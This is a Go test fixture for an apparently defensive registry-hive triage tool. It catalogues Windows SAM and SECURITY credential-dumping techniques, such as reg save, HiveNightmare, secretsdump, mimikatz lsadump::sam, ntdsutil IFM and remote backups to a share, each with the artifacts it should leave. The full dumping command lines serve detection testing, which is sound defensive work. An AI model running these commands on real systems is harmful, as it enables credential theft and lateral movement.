package triage_test

import (
	"time"

	"hivetriage/artifacts/eventlog/eventlogtest"
	"hivetriage/artifacts/hive/hivetest"
	"hivetriage/triage/technique"
)

// A copied file is one that a technique leaves.
type copied struct {
	path string // `C:\...`
	hive string
	form string // "save", "api", "raw", "offreg", "text", "backup"
	gone bool   // it is deleted soon after
}

// A story is one use of a technique: what the sources, each in its own way,
// tell of. Where two hosts are involved, the program runs on one and the copies
// lie on the other.
type story struct {
	row      int
	image    string // the program that copies; "" where none runs on a Windows host
	original string // what it was built as
	line     string
	script   string // the same in PowerShell; "" is line
	parent   string // "" is cmd.exe
	copies   []copied
	asked    []asked // over a share
	loaded   string  // by the program, as Sysmon 7 tells
	own      []eventlogtest.Record
	memory   bool // the program reads LSASS
	raw      bool // the program reads the volume
	periodic bool // EnablePeriodicBackup is set
	open     bool // users may read the live hives
}

// asked is an object of a share.
type asked struct{ share, local, target string }

var winreg = asked{"IPC$", "", "winreg"}

const (
	system32   = `C:\Windows\System32\`
	config     = system32 + `config\`
	shadowSAM  = `\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM`
	idleBackup = `\Microsoft\Windows\Registry\RegIdleBackup`
)

// recordOf is a record of Windows' own with some data.
func recordOf(provider string, id uint16, channel string, data ...string) eventlogtest.Record {
	r := eventlogtest.Record{Provider: provider, ID: id, Level: 4, Time: act.Add(time.Second), Channel: channel, Computer: sourceHost.Name}
	for i := 0; i+1 < len(data); i += 2 {
		r.Data = append(r.Data, eventlogtest.Field{Name: data[i], Type: eventlogtest.String, Value: data[i+1]})
	}
	return r
}

// sourceHost is the host of all stories.
var sourceHost = hivetest.Host{Name: "WS01", SID: "S-1-5-21-1-2-3", Time: act.Add(-time.Hour), Saved: act}

// stories has one for each row of the catalogue, in its order.
var stories = []story{
	{row: technique.RegSave, image: system32 + "reg.exe", original: "reg.exe", line: `reg save HKLM\SAM C:\Users\Public\sam.save`,
		copies: []copied{{`C:\Users\Public\sam.save`, "SAM", "save", false}}},
	{row: technique.RegExport, image: system32 + "reg.exe", original: "reg.exe", line: `reg export HKLM\SAM C:\Users\Public\sam.reg`,
		copies: []copied{{`C:\Users\Public\sam.reg`, "SAM", "text", false}}},
	{row: technique.RegRemote, image: system32 + "reg.exe", original: "reg.exe", line: `reg save \\DC01\HKLM\SAM C:\Windows\Temp\sam.save`,
		copies: []copied{{`C:\Windows\Temp\sam.save`, "SAM", "save", false}}, asked: []asked{winreg, {"ADMIN$", `\??\C:\Windows`, `Temp\sam.save`}},
		own: []eventlogtest.Record{eventlogtest.System7036(act, sourceHost.Name, "Remote Registry", "running")}},
	{row: technique.Regedit, image: `C:\Windows\regedit.exe`, original: "REGEDIT.EXE", line: `regedit /e C:\Users\eve\Documents\sam.reg HKEY_LOCAL_MACHINE\SAM`,
		copies: []copied{{`C:\Users\eve\Documents\sam.reg`, "SAM", "text", false}}},
	{row: technique.PowerShell, image: system32 + `WindowsPowerShell\v1.0\powershell.exe`, original: "PowerShell.EXE",
		line:   `powershell -c "[System.IO.File]::Copy('` + shadowSAM + `', 'C:\Users\Public\sam.hiv')"`,
		script: `[System.IO.File]::Copy('` + shadowSAM + `', 'C:\Users\Public\sam.hiv')`, copies: []copied{{`C:\Users\Public\sam.hiv`, "SAM", "raw", false}}},
	{row: technique.Esentutl, image: system32 + "esentutl.exe", original: "esentutl.exe", line: `esentutl.exe /y /vss ` + config + `SAM /d C:\ProgramData\SAM`,
		copies: []copied{{`C:\ProgramData\SAM`, "SAM", "raw", false}}, own: []eventlogtest.Record{recordOf("Microsoft-Windows-Ntfs", 98, "System", "DeviceName", `\Device\HarddiskVolumeShadowCopy1`)}},
	{row: technique.ShadowCopy, image: system32 + "cmd.exe", original: "Cmd.Exe", line: `cmd.exe /c copy ` + shadowSAM + ` C:\Users\Public\SAMvss1`, script: `copy ` + shadowSAM + ` C:\Users\Public\SAMvss1`,
		copies: []copied{{`C:\Users\Public\SAMvss1`, "SAM", "raw", false}}, own: []eventlogtest.Record{recordOf("Microsoft-Windows-Ntfs", 98, "System", "DeviceName", `\Device\HarddiskVolumeShadowCopy1`)}},
	{row: technique.HiveNightmare, image: `C:\Users\eve\Downloads\HiveNightmare.exe`, line: `HiveNightmare.exe`, copies: []copied{{`C:\Users\eve\Downloads\SAM-haxx`, "SAM", "raw", false}}, open: true},
	{row: technique.Secretsdump, image: `C:\Tools\secretsdump.exe`, line: `secretsdump.exe corp/eve@10.0.0.5`,
		copies: []copied{{`C:\Windows\Temp\QwErTyUi.tmp`, "SAM", "api", true}}, asked: []asked{winreg, {"ADMIN$", `\??\C:\Windows`, `Temp\QwErTyUi.tmp`}},
		own: []eventlogtest.Record{eventlogtest.System7036(act, sourceHost.Name, "Remote Registry", "running")}},
	{row: technique.ImpacketReg, image: `C:\Python\python.exe`, original: "python.exe", line: `python reg.py corp/eve@10.0.0.5 backup -o \\10.0.0.9\share`,
		copies: []copied{{`C:\share\SAM.save`, "SAM", "api", false}}, asked: []asked{{"share", `\??\C:\share`, "SAM.save"}},
		own: []eventlogtest.Record{eventlogtest.System7036(act, sourceHost.Name, "Remote Registry", "running")}},
	{row: technique.NetExec, image: `C:\Tools\nxc.exe`, line: `nxc smb 10.0.0.5 -u eve -M backup_operator --sam`,
		copies: []copied{{`C:\Windows\SYSVOL\sysvol\SAM_1a2b3c4d`, "SAM", "api", false}}, asked: []asked{winreg, {"SYSVOL", `\??\C:\Windows\SYSVOL\sysvol`, `SAM_1a2b3c4d`}},
		own: []eventlogtest.Record{eventlogtest.System7036(act, sourceHost.Name, "Remote Registry", "running")}},
	{row: technique.BackupOperator, image: `C:\Tools\BackupOperatorToDA.exe`, line: `BackupOperatorToDA.exe -t \\dc01 -o \\10.0.0.9\share\`,
		copies: []copied{{`C:\share\SAM`, "SAM", "api", false}}, asked: []asked{winreg, {"share", `\??\C:\share`, "SAM"}},
		own: []eventlogtest.Record{recordOf("Microsoft-Windows-Security-Auditing", 4672, "Security", "SubjectUserName", "eve", "PrivilegeList", "SeBackupPrivilege\n\t\t\tSeRestorePrivilege")}},
	{row: technique.RemoteExecution, image: system32 + "cmd.exe", original: "Cmd.Exe", parent: system32 + `wbem\WmiPrvSE.exe`,
		line: `cmd.exe /Q /c reg save HKLM\SAM C:\Windows\Temp\sam.hive 1> \\127.0.0.1\ADMIN$\__1616161616.55 2>&1`, copies: []copied{{`C:\Windows\Temp\sam.hive`, "SAM", "save", false}},
		asked: []asked{{"ADMIN$", `\??\C:\Windows`, `__1616161616.55`}, {"ADMIN$", `\??\C:\Windows`, `Temp\sam.hive`}},
		own:   []eventlogtest.Record{recordOf("Microsoft-Windows-WMI-Activity", 5858, "Microsoft-Windows-WMI-Activity/Operational", "User", `CORP\eve`, "Operation", `Start IWbemServices::ExecMethod - root\cimv2 : Win32_Process::Create`)}},
	{row: technique.IFM, image: system32 + "ntdsutil.exe", original: "ntdsutil.exe", line: `ntdsutil.exe "ac i ntds" ifm "create full C:\Users\Public\ifm" q q`,
		copies: []copied{{`C:\Users\Public\ifm\registry\SYSTEM`, "SYSTEM", "save", false}, {`C:\Users\Public\ifm\registry\SECURITY`, "SECURITY", "save", false}},
		own:    []eventlogtest.Record{recordOf("ESENT", 325, "Application", "", "NTDS", "", `C:\Users\Public\ifm\Active Directory\ntds.dit`)}},
	{row: technique.WindowsBackup, image: system32 + "wbadmin.exe", original: "WBADMIN.EXE", line: `wbadmin start backup -backuptarget:E: -include:` + config + `SAM,` + config + `SYSTEM -quiet`,
		copies: []copied{{`C:\WindowsImageBackup\WS01\Backup 2026-03-14\a.vhdx`, "SAM", "backup", false}}, own: []eventlogtest.Record{recordOf("Microsoft-Windows-Backup", 4, "Microsoft-Windows-Backup", "BackupTemplateID", "{0}")}},
	{row: technique.RawRead, image: `C:\Tools\RawCopy64.exe`, line: `RawCopy64.exe /FileNamePath:` + config + `SAM /OutputPath:C:\Users\Public`, raw: true, copies: []copied{{`C:\Users\Public\SAM`, "SAM", "raw", false}}},
	{row: technique.PwdumpFamily, image: `C:\Tools\QuarksPwDump.exe`, line: `QuarksPwDump.exe --dump-hash-local`, copies: []copied{{`C:\Users\eve\AppData\Local\Temp\SAM-1234.dmp`, "SAM", "save", false}}},
	{row: technique.InMemory, image: `C:\Tools\mimikatz.exe`, original: "mimikatz.exe", line: `mimikatz.exe "lsadump::sam" exit`, memory: true},
	{row: technique.KeptCopies, image: system32 + "cmd.exe", original: "Cmd.Exe", line: `cmd.exe /c copy ` + config + `RegBack\SAM C:\Users\Public\sam.bak`, script: `copy ` + config + `RegBack\SAM C:\Users\Public\sam.bak`,
		copies: []copied{{`C:\Users\Public\sam.bak`, "SAM", "raw", false}}, asked: []asked{{"C$", `\??\C:\`, `Windows\System32\config\RegBack\SAM`}}},
	{row: technique.PeriodicBackup, image: system32 + "reg.exe", original: "reg.exe", line: `reg add "HKLM\SYSTEM\CurrentControlSet\Control\Session Manager\Configuration Manager" /v EnablePeriodicBackup /t REG_DWORD /d 1`,
		copies: []copied{{config + `RegBack\SAM`, "SAM", "raw", false}}, periodic: true,
		own: []eventlogtest.Record{recordOf("Microsoft-Windows-TaskScheduler", 200, "Microsoft-Windows-TaskScheduler/Operational", "TaskName", idleBackup, "ActionName", "Registry Idle Backup Task")}},
	{row: technique.OfflineRegistry, image: `C:\Users\eve\Downloads\tool.exe`, line: `tool.exe -q`, loaded: system32 + "offreg.dll", copies: []copied{{`C:\Users\Public\out.bin`, "SAM", "offreg", false}}},
	{row: technique.OfflineOperation, copies: []copied{{`C:\Users\Public\SAM`, "SAM", "raw", false}}},
}
